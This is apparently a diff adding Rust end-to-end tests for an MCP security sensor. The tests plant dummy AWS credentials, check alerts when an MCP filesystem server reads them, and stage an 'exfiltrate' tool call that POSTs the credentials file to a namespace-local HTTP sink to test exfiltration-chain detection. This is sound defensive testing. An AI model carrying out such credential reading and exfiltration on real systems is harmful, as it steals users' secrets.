@@ -1,0 +1,355 @@
+//! The file sensor end to end: the real filesystem server (npm) reading a planted
+//! secret through a real client's tool call, a sanctioned entry's `files.allow`, a
+//! process outside every MCP tree reading the same file, a child that opens a file
+//! right after its fork, and a fixture server that reads a credentials file and POSTs
+//! it to a host in a network namespace (one exfiltration chain with both legs).
+
+use std::{
+    path::{Path, PathBuf},
+    process::Command,
+    time::Duration,
+};
+
+use mcpwatch_e2e::{
+    eventually, field, fixture, free_port,
+    netns::{KillOnDrop, NetnsPair, Side, SERVER_V4},
+    run_client, test_env, token, venv_bin, Agent,
+};
+use serde_json::Value;
+
+/// A user's home under /home (so that `~/` patterns cover it), removed on drop.
+struct TestHome {
+    path: PathBuf,
+}
+
+impl TestHome {
+    fn new(tag: &str) -> Self {
+        let path = PathBuf::from("/home").join(token(&format!("mcpwt-{tag}")));
+        std::fs::create_dir_all(path.join(".aws")).unwrap();
+        std::fs::write(
+            path.join(".aws/credentials"),
+            "[default]\naws_access_key_id = AKIAIOSFODNN7EXAMPLE\naws_secret_access_key = wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY\n",
+        )
+        .unwrap();
+        std::fs::write(path.join("notes.txt"), "nothing secret\n").unwrap();
+        Self { path }
+    }
+
+    fn credentials(&self) -> String {
+        self.path.join(".aws/credentials").display().to_string()
+    }
+}
+
+impl Drop for TestHome {
+    fn drop(&mut self) {
+        let _ = std::fs::remove_dir_all(&self.path);
+    }
+}
+
+/// A rule file: the repository's, with `sanctioned` entries.
+fn rules_file(dir: &Path, sanctioned: &str) -> String {
+    let text = std::fs::read_to_string(Path::new(env!("CARGO_MANIFEST_DIR")).join("../rules.yaml")).unwrap();
+    assert!(text.contains("sanctioned_servers: []\n"));
+    let text = if sanctioned.is_empty() {
+        text
+    } else {
+        text.replace(
+            "sanctioned_servers: []\n",
+            &format!("sanctioned_servers:\n{sanctioned}"),
+        )
+    };
+    let path = dir.join("rules.yaml");
+    std::fs::write(&path, text).unwrap();
+    path.display().to_string()
+}
+
+const OCSF: &str = "findings.ocsf.jsonl";
+
+fn start(sanctioned: &str) -> Agent {
+    let dir = tempfile::tempdir().unwrap();
+    let rules = rules_file(dir.path(), sanctioned);
+    let ocsf = format!(
+        "jsonl:{}?format=ocsf&events=alerts",
+        dir.path().join(OCSF).display()
+    );
+    Agent::start_in(dir, &["--rules", &rules, "--output", &ocsf])
+}
+
+fn ocsf_findings(agent: &Agent) -> Vec<Value> {
+    std::fs::read_to_string(agent.dir.path().join(OCSF))
+        .unwrap_or_default()
+        .lines()
+        .filter_map(|l| serde_json::from_str(l).ok())
+        .collect()
+}
+
+fn filesystem_server() -> String {
+    test_env()
+        .join("npm/node_modules/@modelcontextprotocol/server-filesystem/dist/index.js")
+        .display()
+        .to_string()
+}
+
+/// One tool call through the official Python SDK client to a stdio server; the
+/// client's stdout and pid.
+fn call(server: &[&str], tool: &str, args: &str) -> (String, u32) {
+    let python = venv_bin("python");
+    run_client(
+        Command::new(&python)
+            .arg(fixture("rules_client.py"))
+            .args([tool, args, "stdio"])
+            .args(server),
+    )
+}
+
+fn call_in(pair: &NetnsPair, server: &[&str], tool: &str, args: &str) -> (String, u32) {
+    let python = venv_bin("python");
+    run_client(
+        pair.command(Side::Client, python.to_str().unwrap())
+            .arg(fixture("rules_client.py"))
+            .args([tool, args, "stdio"])
+            .args(server),
+    )
+}
+
+fn is_alert_on(ev: &Value, rule: &str, path: &str) -> bool {
+    ev["type"] == "alert" && ev["rule_id"] == rule && ev["file"]["path"] == path
+}
+
+fn wait_exited(agent: &mut Agent, name: &str) -> Value {
+    agent.wait_event(Duration::from_secs(15), |e| {
+        e["type"] == "mcp_server" && e["action"] == "exited" && e["server"]["name"] == name
+    })
+}
+
+#[test]
+fn the_filesystem_server_reading_a_planted_secret_alerts_and_outsiders_do_not() {
+    let home = TestHome::new("fs");
+    let cred = home.credentials();
+    let mut agent = start("");
+    let node = "node";
+    let fs = filesystem_server();
+    let (out, _) = call(
+        &[node, &fs, home.path.to_str().unwrap()],
+        "read_text_file",
+        &format!(r#"{{"path": "{cred}"}}"#),
+    );
+    assert!(
+        out.contains("AKIAIOSFODNN7EXAMPLE"),
+        "the tool call read the file: {out}"
+    );
+    let a = agent.wait_event(Duration::from_secs(15), |e| {
+        is_alert_on(e, "mcp-sensitive-file-access", &cred)
+    });
+    assert_eq!(*field(&a, "severity"), "High", "{a:#}");
+    assert_eq!(*field(&a, "file.access"), "read", "{a:#}");
+    assert_eq!(*field(&a, "file.result"), "ok", "{a:#}");
+    assert_eq!(*field(&a, "file.op"), "open", "{a:#}");
+    assert_eq!(*field(&a, "mcp_server.name"), "secure-filesystem-server", "{a:#}");
+    assert_eq!(*field(&a, "process.pid"), *field(&a, "mcp_server.pid"), "{a:#}");
+    assert!(
+        field(&a, "description")
+            .as_str()
+            .unwrap()
+            .contains("~/.aws/credentials"),
+        "the pattern is named: {a:#}"
+    );
+    // The SIEM's copy: the file as evidence.
+    let mut finding = None;
+    eventually(Duration::from_secs(10), "the OCSF finding", || {
+        finding = ocsf_findings(&agent)
+            .into_iter()
+            .find(|f| f["finding_info"]["analytic"]["uid"] == "mcp-sensitive-file-access");
+        finding.is_some()
+    });
+    let f = finding.unwrap();
+    assert_eq!(*field(&f, "evidences.0.file.path"), cred.as_str(), "{f:#}");
+    // The telemetry: a file_access event of the same open.
+    let ev = agent.wait_event(Duration::from_secs(5), |e| {
+        e["type"] == "file_access" && e["path"] == cred.as_str() && e["process"]["pid"] == a["process"]["pid"]
+    });
+    assert_eq!(*field(&ev, "path_resolved"), true, "{ev:#}");
+    wait_exited(&mut agent, "secure-filesystem-server");
+
+    // A process outside every MCP tree reading the same file: nothing.
+    let cat = Command::new("cat").arg(&cred).output().unwrap();
+    assert!(cat.status.success());
+    let outsider = agent.wait_event(Duration::from_secs(10), |e| {
+        e["type"] == "process_exit"
+            && e["process"]["comm"] == "cat"
+            && e["process"]["argv"][1] == cred.as_str()
+    });
+    let cat_pid = field(&outsider, "process.pid").clone();
+    agent.poll_events();
+    assert_eq!(
+        agent.count(|e| e["type"] == "file_access" && e["process"]["pid"] == cat_pid),
+        0,
+        "a process outside the trees is not watched"
+    );
+    assert_eq!(
+        agent.count(|e| is_alert_on(e, "mcp-sensitive-file-access", &cred)),
+        1,
+        "one alert, from the server"
+    );
+    agent.stop();
+}
+
+#[test]
+fn files_allow_of_a_sanctioned_entry_silences_the_sensitive_read() {
+    let home = TestHome::new("allow");
+    let cred = home.credentials();
+    let mut agent = start(&format!(
+        "  - id: filesystem\n    name: secure-filesystem-server\n    files:\n      allow: [\"{}/.aws/**\"]\n",
+        home.path.display()
+    ));
+    let fs = filesystem_server();
+    let (out, _) = call(
+        &["node", &fs, home.path.to_str().unwrap()],
+        "read_text_file",
+        &format!(r#"{{"path": "{cred}"}}"#),
+    );
+    assert!(out.contains("AKIAIOSFODNN7EXAMPLE"), "{out}");
+    // Seen (presence first), then judged allowed.
+    agent.wait_event(Duration::from_secs(15), |e| {
+        e["type"] == "file_access" && e["path"] == cred.as_str() && e["result"] == "ok"
+    });
+    wait_exited(&mut agent, "secure-filesystem-server");
+    assert_eq!(
+        agent.count(|e| e["type"] == "alert" && e["rule_id"] == "mcp-sensitive-file-access"),
+        0,
+        "the entry allows the path"
+    );
+    agent.stop();
+}
+
+#[test]
+fn a_child_opening_a_file_right_after_its_fork_is_in_the_servers_tree() {
+    let home = TestHome::new("fork");
+    let cred = home.credentials();
+    let mut agent = start("");
+    let name = token("forkread");
+    let python = venv_bin("python");
+    let server = fixture("files_server.py");
+    let (out, _) = call(
+        &[python.to_str().unwrap(), server.to_str().unwrap(), &name],
+        "fork_read",
+        &format!(r#"{{"path": "{cred}"}}"#),
+    );
+    assert!(out.contains("opened"), "{out}");
+    let a = agent.wait_event(Duration::from_secs(15), |e| {
+        is_alert_on(e, "mcp-sensitive-file-access", &cred) && e["mcp_server"]["name"] == name.as_str()
+    });
+    let server_pid = field(&a, "mcp_server.pid").clone();
+    assert_ne!(
+        *field(&a, "process.pid"),
+        server_pid,
+        "the child opened it: {a:#}"
+    );
+    assert_eq!(*field(&a, "lineage.0.pid"), server_pid, "{a:#}");
+    assert_eq!(*field(&a, "file.tree_root"), server_pid, "{a:#}");
+    agent.stop();
+}
+
+#[test]
+fn a_credentials_read_then_a_post_to_a_namespace_host_is_one_exfiltration_chain() {
+    let home = TestHome::new("exfil");
+    let cred = home.credentials();
+    let secret_len = std::fs::metadata(&cred).unwrap().len();
+    let mut agent = start("");
+    let pair = NetnsPair::new("exfil");
+    let port = free_port();
+    let _sink = KillOnDrop(
+        pair.command(Side::Server, venv_bin("python").to_str().unwrap())
+            .arg(fixture("http_sink.py"))
+            .args([SERVER_V4, &port.to_string()])
+            .spawn()
+            .unwrap(),
+    );
+    let url = format!("http://{SERVER_V4}:{port}/upload");
+    let python = venv_bin("python");
+    let server = fixture("files_server.py");
+    let name = token("exfil");
+    // The sink listens before the server is started: its first connection is the one.
+    let target = format!("{SERVER_V4}:{port}");
+    eventually(Duration::from_secs(10), "the sink listening", || {
+        let t = target.clone();
+        pair.run(Side::Client, move || std::net::TcpStream::connect(&t).is_ok())
+    });
+    let (out, _) = call_in(
+        &pair,
+        &[python.to_str().unwrap(), server.to_str().unwrap(), &name],
+        "exfiltrate",
+        &format!(r#"{{"path": "{cred}", "url": "{url}"}}"#),
+    );
+    assert!(out.contains(&format!("sent {secret_len} bytes")), "{out}");
+    let chain = agent.wait_event(Duration::from_secs(20), |e| {
+        e["type"] == "alert"
+            && e["rule_id"] == "mcp-exfiltration-chain"
+            && e["mcp_server"]["name"] == name.as_str()
+    });
+    assert_eq!(*field(&chain, "severity"), "Critical", "{chain:#}");
+    assert_eq!(*field(&chain, "chain.reads.0.path"), cred.as_str(), "{chain:#}");
+    assert_eq!(
+        *field(&chain, "chain.reads.0.pattern"),
+        "~/.aws/credentials",
+        "{chain:#}"
+    );
+    assert_eq!(
+        *field(&chain, "chain.reads.0.finding.rule_id"),
+        "mcp-sensitive-file-access",
+        "{chain:#}"
+    );
+    assert_eq!(*field(&chain, "connection.remote.ip"), SERVER_V4, "{chain:#}");
+    assert_eq!(*field(&chain, "connection.remote.port"), port, "{chain:#}");
+    let sent = field(&chain, "chain.bytes_sent").as_u64().unwrap();
+    assert!(
+        sent >= secret_len,
+        "the POST carried the secret: {sent} bytes, {chain:#}"
+    );
+    let reason = field(&chain, "chain.egress_reason").as_str().unwrap();
+    assert!(reason.contains("outside the policy"), "{chain:#}");
+    // The read's own finding, which the chain names.
+    let read = agent.wait_event(Duration::from_secs(5), |e| {
+        is_alert_on(e, "mcp-sensitive-file-access", &cred) && e["mcp_server"]["name"] == name.as_str()
+    });
+    assert_eq!(
+        *field(&chain, "chain.reads.0.finding.identity"),
+        *field(&read, "identity"),
+        "{chain:#}"
+    );
+    wait_exited(&mut agent, &name);
+    assert_eq!(
+        agent.count(|e| e["type"] == "alert"
+            && e["rule_id"] == "mcp-exfiltration-chain"
+            && e["mcp_server"]["name"] == name.as_str()),
+        1,
+        "one chain finding"
+    );
+    // In OCSF: the chain's related event is the read's finding.
+    let mut findings = Vec::new();
+    eventually(Duration::from_secs(10), "both OCSF findings", || {
+        findings = ocsf_findings(&agent);
+        findings
+            .iter()
+            .any(|f| f["finding_info"]["analytic"]["uid"] == "mcp-exfiltration-chain")
+            && findings
+                .iter()
+                .any(|f| f["unmapped"]["identity"] == read["identity"])
+    });
+    let c = findings
+        .iter()
+        .find(|f| f["finding_info"]["analytic"]["uid"] == "mcp-exfiltration-chain")
+        .unwrap();
+    let r = findings
+        .iter()
+        .find(|f| f["unmapped"]["identity"] == read["identity"])
+        .unwrap();
+    assert_eq!(
+        *field(c, "finding_info.related_events.0.uid"),
+        *field(r, "finding_info.uid"),
+        "{c:#}"
+    );
+    assert_eq!(*field(c, "evidences.1.file.path"), cred.as_str(), "{c:#}");
+    assert_eq!(*field(c, "evidences.0.dst_endpoint.ip"), SERVER_V4, "{c:#}");
+    agent.stop();
+}
